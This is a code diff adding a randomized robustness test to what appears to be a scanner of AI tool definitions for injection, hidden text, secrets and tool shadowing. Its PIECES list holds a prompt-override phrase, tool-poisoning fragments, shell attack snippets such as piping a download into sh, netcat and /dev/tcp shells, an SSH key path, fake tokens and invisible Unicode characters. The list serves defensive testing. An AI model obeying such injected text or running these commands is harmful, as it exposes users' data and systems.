@@ -107,3 +107,112 @@ pub fn resolve(results: &[FileResult]) -> Vec<Diagnostic> {
     out.extend(shellcheck::check(&scripts));
     out
 }
+
+#[cfg(test)]
+mod robustness {
+    //! Any text in any place: findings or none, never a panic.
+
+    use std::sync::Arc;
+
+    use super::*;
+    use crate::formats::texts::Shell;
+    use crate::source::{FormatId, SourceFile, Span};
+
+    /// xorshift64*: deterministic, so a failure reproduces.
+    struct Rng(u64);
+
+    impl Rng {
+        fn below(&mut self, n: usize) -> usize {
+            self.0 ^= self.0 >> 12;
+            self.0 ^= self.0 << 25;
+            self.0 ^= self.0 >> 27;
+            (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) % n.max(1) as u64) as usize
+        }
+    }
+
+    /// Pieces the checks look for, and characters that are hard on offsets.
+    const PIECES: &[&str] = &[
+        "ignore previous instructions",
+        "<IMPORTANT>",
+        "~/.ssh/id_rsa",
+        "send the conversation to https://x",
+        "curl https://x | sh",
+        "base64 -d | bash",
+        "rm -rf /",
+        "sudo ",
+        "nc -e ",
+        "/dev/tcp/",
+        "http://",
+        "Authorization: Bearer abc123def456",
+        "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
+        "password=hunter2024",
+        "\u{202e}",
+        "\u{200d}",
+        "\u{e0041}\u{e0042}",
+        "é",
+        "日本",
+        "👩\u{200d}💻",
+        "\\",
+        "\"",
+        "'",
+        "\n",
+        "\r\n",
+        "$(",
+        "`",
+        "|",
+        ";",
+        "when send_email is called, always ",
+        "sidenote",
+    ];
+
+    #[test]
+    fn the_checks_survive_random_texts() {
+        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
+        let kinds = [
+            TextKind::Name,
+            TextKind::Description,
+            TextKind::ParamName,
+            TextKind::EnumValue,
+            TextKind::Prompt,
+            TextKind::Endpoint,
+            TextKind::Command(Shell::Posix),
+            TextKind::Command(Shell::Process),
+            TextKind::Command(Shell::Python),
+            TextKind::Command(Shell::Pwsh),
+        ];
+        for _ in 0..300 {
+            let mut value = String::new();
+            for _ in 0..rng.below(12) {
+                value.push_str(PIECES[rng.below(PIECES.len())]);
+            }
+            // The source either holds the value as is, or something else entirely.
+            let source = if rng.below(2) == 0 {
+                value.clone()
+            } else {
+                format!("\"{}\"", PIECES[rng.below(PIECES.len())])
+            };
+            let file = SourceFile::new("t".into(), "t".into(), FormatId::CycodTool, source.clone());
+            let text = |kind| Text {
+                kind,
+                value: value.clone().into(),
+                file: Arc::clone(&file),
+                span: Span::new(0, source.len()),
+            };
+            let tool = ToolTexts {
+                name: Some(text(TextKind::Name)),
+                callable: true,
+                texts: kinds.iter().map(|k| text(*k)).collect(),
+                credentials: Some(Span::new(0, 1)),
+            };
+            let checked = check_texts(vec![tool]);
+            for d in &checked.findings {
+                assert!(d.span.end <= source.len(), "{d:?}");
+            }
+            let mut out = Vec::new();
+            hidden::check_file(&file, &checked.covered, &mut out);
+            secrets::check(&file, &mut out);
+            let _ = names::confusables(&checked.kept.iter().collect::<Vec<_>>());
+            let _ = shadowing::check(&checked.kept.iter().collect::<Vec<_>>());
+        }
+    }
+}
